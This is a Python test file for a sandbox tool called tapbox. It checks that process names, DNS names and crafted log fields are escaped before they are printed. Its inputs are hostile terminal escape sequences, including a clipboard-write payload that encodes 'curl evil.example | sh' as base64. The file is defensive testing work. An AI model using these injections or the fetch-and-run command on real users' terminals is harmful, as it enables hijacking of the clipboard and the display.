"""What tapbox prints cannot be forged by the sandbox or by a crafted log (issue 8, item 6).

A process name (prctl PR_SET_NAME: 15 arbitrary bytes), argv, DNS names, and every field of a
log read by `tapbox log show` reach the terminal only escaped: no C0/C1 control, ESC, DEL, or
bidi/format character gets through. JSON stays JSON.
"""

from __future__ import annotations

import json
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from conftest import REPO_ROOT, RunTapbox, tapbox_env
from fakenet import FakeNet

from tapbox.eventlog import EventLog
from tapbox.summary import Summary

SHORT = 30.0
PY = sys.executable
HOSTILE = "\x1b]0;pwned\x07"  # set the terminal's title; 10 bytes: fits a process name


def unsafe(text: str) -> list[str]:
    """The characters of `text` a terminal would act on (newlines between lines aside)."""
    return [ch for ch in text if ch != "\n"
            and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs")]


def describe(proc: subprocess.CompletedProcess[str]) -> str:
    return f"exit {proc.returncode}\nstdout:\n{proc.stdout!r}\nstderr:\n{proc.stderr!r}"


@pytest.mark.parametrize(("raw", "shown"), [
    ("plain name", "plain name"),
    ("caf\u00e9 \u4e2d", "caf\u00e9 \u4e2d"),
    ("\x1b[2J", "\\x1b[2J"),
    ("a\nb\rc\td", "a\\x0ab\\x0dc\\x09d"),
    ("\x7f\x9b\x85", "\\x7f\\x9b\\x85"),
    ("\u202egnp.exe", "\\u202egnp.exe"),
    ("zero\u200bwidth\u2066", "zero\\u200bwidth\\u2066"),
    ("line\u2028sep", "line\\u2028sep"),
    ("\udcff", "\\udcff"),
])
def test_escape(raw: str, shown: str) -> None:
    from tapbox.textescape import escape

    assert escape(raw) == shown
    assert escape(escape(raw)) == shown  # idempotent


def test_the_event_log_is_ascii_json(tmp_path: Path) -> None:
    path = tmp_path / "log.jsonl"
    log = EventLog(str(path))
    value = "\u202e\x9b\x1b]52;c;ZXZpbA==\x07\u00e9"
    log.write({"event": "message", "time": 1.0, "text": value})
    log.close()
    data = path.read_bytes()
    assert max(data) < 0x80 and b"\x1b" not in data and b"\x07" not in data
    assert json.loads(data)["text"] == value  # the value itself is kept exactly


def test_the_summary_escapes_destinations() -> None:
    summary = Summary()
    summary.add_flow(domain="\x1b[31mred\u202e.test", dst="192.0.2.10", proto="tcp",
                     dport=80, verdict="denied", rule=None, reason="no rule\x1b[2K")
    text = "\n".join(summary.render())
    assert unsafe(text) == [], repr(text)
    assert "\\x1b[31mred\\u202e.test" in text


RENAMED = (
    "import ctypes, socket\n"
    f"ctypes.CDLL(None).prctl(15, {HOSTILE.encode()!r}, 0, 0, 0)  # PR_SET_NAME\n"
    "s = socket.socket()\n"
    "s.settimeout(5)\n"
    "try:\n"
    "    s.connect(('203.0.113.7', 80))\n"
    "except OSError as e:\n"
    "    print('refused', e, flush=True)\n"
)


def test_a_process_name_is_escaped_on_stderr_and_in_log_show(
        run_tapbox: RunTapbox, fakenet: FakeNet, tmp_path: Path) -> None:
    log = tmp_path / "run.jsonl"
    proc = run_tapbox("-v", "--log", str(log), cmd=[PY, "-c", RENAMED],
                      allow_file_text="192.0.2.10\n", timeout=SHORT)
    assert proc.returncode == 0 and "refused" in proc.stdout, describe(proc)
    assert unsafe(proc.stderr) == [], describe(proc)
    assert "(\\x1b]0;pwned\\x07)" in proc.stderr, describe(proc)  # the -v denial line
    events = [json.loads(line) for line in log.read_text().splitlines()]
    flow = next(e for e in events if e["event"] == "flow_end" and e["dst"] == "203.0.113.7")
    assert flow["process"]["comm"] == HOSTILE  # the log keeps the exact value, as JSON
    shown = subprocess.run([PY, "-m", "tapbox", "log", "show", str(log), "--flows"],
                           capture_output=True, text=True, cwd=REPO_ROOT, env=tapbox_env(),
                           timeout=SHORT)
    assert shown.returncode == 0, describe(shown)
    assert unsafe(shown.stdout) == [] and "\\x1b]0;pwned\\x07" in shown.stdout, describe(shown)


def test_log_show_escapes_every_field_of_a_crafted_log(tmp_path: Path) -> None:
    osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    events = [
        {"v": 1, "event": "start", "time": 1.0, "mode": "enforce\x1b[2K", "command": [osc52]},
        {"v": 1, "event": "dns", "time": 1.0, "name": "\u202eevil.test", "qtype": "A\x9b",
         "verdict": "denied", "rule": "no rule", "answers": [], "guarded": []},
        {"v": 1, "event": "flow_end", "time": 1.0, "id": "\x1b[1A", "proto": "tcp\x1b[K",
         "src_port": 1, "dst": "203.0.113.7\x1b[2J", "dport": 80, "domain": "x\x1b[8m.test",
         "verdict": "denied\x07", "rule": "no rule", "reason": "no rule\x1b]0;t\x07",
         "start": 1.0, "process": {"pid": "\x1b[5m", "comm": "\x9b2J", "cmdline": []},
         "end": 1.0, "bytes_out": 0, "bytes_in": 0, "ending": "denied\x1b[0m"},
        {"v": 1, "event": "exit", "time": "not a time", "status": "\x1b[2J"},
    ]
    path = tmp_path / "crafted\x1b[2K.jsonl"
    path.write_text("".join(json.dumps(e) + "\n" for e in events))
    for extra in ([], ["--flows"], ["--denied", "--flows"]):
        shown = subprocess.run([PY, "-m", "tapbox", "log", "show", str(path), *extra],
                               capture_output=True, text=True, cwd=REPO_ROOT,
                               env=tapbox_env(), timeout=SHORT)
        assert shown.returncode == 0, describe(shown)
        assert unsafe(shown.stdout + shown.stderr) == [], describe(shown)
        assert "\\x1b]52;c;" in shown.stdout, describe(shown)
